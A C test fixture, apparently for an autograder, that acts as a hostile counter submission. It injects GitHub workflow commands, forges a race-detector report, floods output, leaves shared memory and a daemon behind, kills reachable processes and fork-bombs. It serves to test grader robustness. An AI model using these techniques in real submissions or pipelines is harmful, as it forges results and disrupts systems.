/* A hostile counter submission: it prints the right count but also GitHub workflow commands, floods stderr,
 * leaves a SysV segment, a POSIX shm object and a detached daemon behind, tries to kill every process it can
 * see, and forks until refused. Under the race detector it also writes the detector's report itself: lines that
 * are not JSON, fields of the wrong types, a workflow command in an object name, and a flood. The grader must
 * grade it below full marks, trust none of it, and clean up after it. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    const char *report = getenv("XRACE_REPORT");
    FILE *forged = report ? fopen(report, "a") : NULL;
    if (forged) {
        fprintf(forged, "not json\n{\"access\": 5, \"previous\": \"x\"}\n{\"kind\": 7, \"site\": \"abc\"}\n");
        fprintf(forged, "{\"access\": {\"pid\": \"a\", \"site\": -1}, \"previous\": {}, \"offset\": \"far\"}\n");
        fprintf(forged, "{\"access\": {\"site\": 1}, \"previous\": {\"site\": 2}, \"object\": \"x\\n::error::forged\"}\n");
        for (int i = 0; i < 20000; i++) fprintf(forged, "{\"kind\": \"sync-not-shared\", \"site\": %d, \"object\": \"flood\"}\n", i);
        fclose(forged);
    }
    printf("::error file=counter.c,line=1::pwned\n::stop-commands::guess\n::add-mask::secret\n");
    for (int i = 0; i < 2000; i++) fprintf(stderr, "noise %d ::warning::x\n", i);
    shmget(IPC_PRIVATE, 1 << 20, IPC_CREAT | 0600);
    int fd = shm_open("/left-behind", O_RDWR | O_CREAT, 0600);
    if (fd >= 0) ftruncate(fd, 1 << 20);
    if (fork() == 0) {
        setsid();
        sleep(600);
        _exit(0);
    }
    kill(-1, SIGKILL + 0 * argc); /* everything it can reach: in the sandbox, only itself and its children */
    for (int i = 0; i < 10000 && fork() >= 0; i++) {
    }
    printf("%d\n", atoi(argv[2]) * atoi(argv[3]));
    return 0;
}
